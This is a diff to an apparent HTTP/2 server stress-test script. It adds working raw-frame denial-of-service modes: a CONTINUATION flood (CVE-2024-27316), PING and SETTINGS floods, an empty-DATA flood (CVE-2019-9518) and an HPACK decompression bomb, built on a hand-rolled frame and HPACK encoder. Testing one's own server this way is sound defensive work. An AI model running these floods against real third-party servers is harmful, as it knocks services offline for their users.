@@ -6,6 +6,15 @@ Usage: h2_abuse.py MODE PORT [N]
   big_headers N   send one request whose header list is N bytes
   slow_window N   open N streams to a large download with a 1-byte window,
                   then never grant more
+  continuation N  one HEADERS without END_HEADERS, then N CONTINUATION
+                  frames of 16 KiB each (CVE-2024-27316), never reading
+  ping N          N PINGs at once, never reading the answers
+  settings N      N SETTINGS frames at once, never reading the ACKs
+  empty_data N    a POST whose body is N empty DATA frames (CVE-2019-9518)
+  hpack_bomb N    a 4 kB header put in the HPACK table, then one request
+                  naming it N times (N x 4 kB decoded from N bytes)
+The last five write raw frames after the preface and count the frames the
+server sends back by type.
 Connects with TLS (ALPN h2, certificate not checked) and prints one JSON
 object: whether the server sent GOAWAY (and its code), streams refused or
 reset, responses seen. Bounded: at most 15 seconds.
@@ -13,6 +22,7 @@ reset, responses seen. Bounded: at most 15 seconds.
 import json
 import socket
 import ssl
+import struct
 import sys
 import time
 
@@ -94,6 +104,100 @@ def pump(sock, conn, result, seconds, stop=lambda r: False, read=False, tick=lam
             return
 
 
+FRAME_TYPES = {0: "data", 1: "headers", 3: "rst_stream", 4: "settings", 6: "ping", 7: "goaway", 8: "window_update"}
+
+
+def frame(kind, flags, stream_id, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload
+
+
+def hpack_int(value, prefix_bits, first):
+    # RFC 7541 §5.1: an integer with an N-bit prefix.
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first | value])
+    out = [first | limit]
+    value -= limit
+    while value >= 128:
+        out.append(value % 128 + 128)
+        value //= 128
+    out.append(value)
+    return bytes(out)
+
+
+def request_block(extra=b""):
+    # :method GET, :scheme https, :path /, then :authority app.test (literal).
+    authority = b"\x01" + hpack_int(8, 7, 0) + b"app.test"
+    return b"\x82\x87\x84" + authority + extra
+
+
+def raw_pump(sock, result, seconds):
+    """Reads what the server sends for `seconds` (or until it closes),
+    counting its frames by type and noting a GOAWAY's code."""
+    deadline = time.time() + seconds
+    sock.settimeout(0.2)
+    buffer = b""
+    while time.time() < deadline:
+        try:
+            data = sock.recv(65535)
+        except socket.timeout:
+            continue
+        except (ssl.SSLError, OSError):
+            result["closed"] = True
+            return
+        if not data:
+            result["closed"] = True
+            return
+        buffer += data
+        while len(buffer) >= 9:
+            length = int.from_bytes(buffer[:3], "big")
+            if len(buffer) < 9 + length:
+                break
+            kind, payload = buffer[3], buffer[9:9 + length]
+            name = FRAME_TYPES.get(kind, "other")
+            result[name] = result.get(name, 0) + 1
+            if kind == 7 and len(payload) >= 8:
+                result["goaway"] = int.from_bytes(payload[4:8], "big")
+            buffer = buffer[9 + length:]
+
+
+def raw_abuse(mode, sock, n, result):
+    """Writes the raw frames of `mode` (the preface is already sent)."""
+    if mode == "continuation":
+        sock.sendall(frame(1, 0, 1, request_block()))
+        # Literal headers without indexing, 16 KiB each, never ending.
+        chunk = frame(9, 0, 1, b"\x00" + hpack_int(10, 7, 0) + b"x-continue" + hpack_int(16000, 7, 0) + b"c" * 16000)
+        for _ in range(n):
+            sock.sendall(chunk)
+    elif mode == "ping":
+        sock.sendall(b"".join(frame(6, 0, 0, struct.pack(">Q", i)) for i in range(n)))
+    elif mode == "settings":
+        one = frame(4, 0, 0, struct.pack(">HI", 0x3, 100))
+        sock.sendall(one * n)
+    elif mode == "empty_data":
+        block = b"\x83\x87\x84" + b"\x01" + hpack_int(8, 7, 0) + b"app.test"
+        sock.sendall(frame(1, 0x4, 1, block))
+        empty = frame(0, 0, 1)
+        for start in range(0, n, 10000):
+            sock.sendall(empty * min(10000, n - start))
+    elif mode == "hpack_bomb":
+        # Fits the default 4 KiB HPACK table (with its 32-byte overhead).
+        value = b"b" * 4000
+        insert = b"\x40" + hpack_int(6, 7, 0) + b"x-bomb" + hpack_int(len(value), 7, 0) + value
+        # Index 62: the first entry of the dynamic table. The block in
+        # frames within the default 16 KiB frame size: HEADERS, then
+        # CONTINUATIONs, the last one ending the headers.
+        block = request_block(insert + b"\xbe" * n)
+        parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
+        for i, part in enumerate(parts):
+            last = 0x4 if i == len(parts) - 1 else 0
+            sock.sendall(frame(1, 0x1 | last, 1, part) if i == 0 else frame(9, last, 1, part))
+    raw_pump(sock, result, 5)
+
+
+RAW_MODES = ("continuation", "ping", "settings", "empty_data", "hpack_bomb")
+
+
 def main():
     mode, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]) if len(sys.argv) > 3 else 0
     result = {"mode": mode}
@@ -102,7 +206,9 @@ def main():
     else:
         sock, conn = connect(port)
     try:
-        if mode == "rapid_reset":
+        if mode in RAW_MODES:
+            raw_abuse(mode, sock, n, result)
+        elif mode == "rapid_reset":
             for i in range(n):
                 stream_id = conn.get_next_available_stream_id()
                 request(conn, stream_id, "/hang?seconds=5")
